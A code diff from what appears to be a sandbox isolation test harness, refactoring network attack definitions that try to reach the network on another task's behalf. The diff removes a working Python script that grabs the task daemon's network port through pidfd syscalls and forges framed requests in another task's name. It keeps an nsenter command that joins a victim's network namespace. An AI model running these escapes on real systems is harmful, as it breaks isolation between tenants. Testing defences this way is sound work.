@@ -1,48 +1,20 @@
-import type { NetworkAttack } from "../../../harness/attacks/network.ts";
+import { network } from "../../../harness/attacks/attack.ts";
 import { FIND_VICTIM } from "../agent/scripts.ts";
-import { connected, ONE } from "./names.ts";
+import { connected, ONE } from "./reached.ts";
 import { get, tell } from "./scripts.ts";
 
 const ASK = tell(get("http://allowed.example/"));
 
-/** Takes the port of the network out of taskd's hands, and opens a connection of another task. */
-const FORGE = `python3 -I -S -c '
-import ctypes, glob, os, subprocess, time
-libc = ctypes.CDLL(None)
-taskd = int(subprocess.check_output(["pgrep", "-o", "-f", "taskd[.]mjs"]))
-names = {open(path).read().strip(): path.split("/")[-2] for path in glob.glob("/sys/class/virtio-ports/*/name")}
-port = next(int(fd) for fd in os.listdir(f"/proc/{taskd}/fd") if os.readlink(f"/proc/{taskd}/fd/{fd}") == "/dev/" + names["piwork.network"])
-mine = libc.syscall(438, libc.syscall(434, taskd, 0), port, 0)
-os.set_blocking(mine, True)
-def frame(kind, payload):
-    return bytes([kind]) + len(payload).to_bytes(3, "big") + (0x70000000).to_bytes(4, "big") + payload
-asked = b"GET http://allowed.example/ HTTP/1.1\\r\\nHost: allowed.example\\r\\nConnection: close\\r\\n\\r\\n"
-os.write(mine, frame(2, os.environ["VICTIM"].encode()) + frame(3, asked))
-print("forged", flush=True)
-time.sleep(1.5)'`;
-
-/** What speaks for another task, which may go where this one may not. */
-export const networkAcross: readonly NetworkAttack[] = [
-  {
-    id: "network-across.namespace",
-    tries: "joins another's network and asks its proxy",
-    allowOther: ONE,
-    script: `${FIND_VICTIM}; nsenter -t "\${v:-0}" -n ${ASK} || true`,
-    reached: connected,
-    control: "machine",
-    isDirect: true,
-  },
-];
-
-/** The same by whoever has a machine: what it says of its tasks is its word, but it has one task alone. */
-export const networkForged: readonly NetworkAttack[] = [
-  {
-    id: "network-across.forged",
-    tries: "opens a connection in the name of another task",
-    allowOther: ONE,
-    script: FORGE,
-    reached: connected,
-    control: "machine",
-    ...{ asRoot: true, isDirect: true, ruinous: true },
-  },
-];
+/** Connections in the name of another task, which may go where this one may not. */
+export const networkAcross = network(
+  "network-across",
+  { reached: connected, allowOther: ONE, control: "machine", isDirect: true },
+  [
+    [
+      "namespace",
+      "joins another's network and asks its proxy",
+      `${FIND_VICTIM}; nsenter -t "\${v:-0}" -n ${ASK} || true`,
+      { essential: true },
+    ],
+  ],
+);
